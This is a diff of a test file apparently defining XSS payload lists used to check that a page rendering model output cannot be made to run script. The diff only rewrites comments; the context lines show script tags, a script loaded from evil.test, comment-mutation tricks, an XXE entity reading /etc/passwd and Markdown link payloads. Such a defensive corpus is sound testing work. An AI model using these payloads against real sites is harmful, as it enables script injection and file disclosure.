@@ -1,7 +1,10 @@
 const js = 'window.__xss=1'
 const ticks = '```'
 
-/** As elements and attributes that run something: OWASP's filter evasion list, and what has come since. */
+/**
+ * Attacks by elements and attributes that run something: OWASP's filter evasion list, and newer
+ * ones.
+ */
 const html = [
   `<script>${js}</script>`,
   `<SCRIPT SRC=//evil.test/x.js></SCRIPT>`,
@@ -110,7 +113,10 @@ const html = [
   `<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;`,
 ]
 
-/** Comments, mutations, clobbering, encodings: what comes out of one parser as something else than it went in. */
+/**
+ * Attacks by comments, mutations, clobbering and encodings: a parser's output differs from its
+ * input.
+ */
 const confusion = [
   `<!--<img src="--><img src=x onerror=${js}//">`,
   `<!--[if gte IE 4]><script>${js}</script><![endif]-->`,
@@ -190,7 +196,7 @@ const schemes = [
   `mailto:a@b.test?body=" onclick="${js}`,
 ]
 
-/** As Markdown whose result is an address, in every place that one may stand. */
+/** Attacks by Markdown that becomes an address, in every place where an address may stand. */
 const markdown = [
   ...schemes.map((address) => `[click](${address})`),
   ...schemes.map((address) => `[click](<${address}>)`),
@@ -248,5 +254,8 @@ const markdown = [
   `<a href="\n\n[a](" onclick="${js})`,
 ]
 
-/** What a model may say to make a page run or load something: it sets `window.__xss`, opens a dialog, or asks evil.test for something. */
+/**
+ * Texts of a model that try to make a page run or load something: set `window.__xss`, open a
+ * dialog, or request a file of evil.test.
+ */
 export const xss: readonly string[] = [...html, ...confusion, ...schemes, ...markdown]
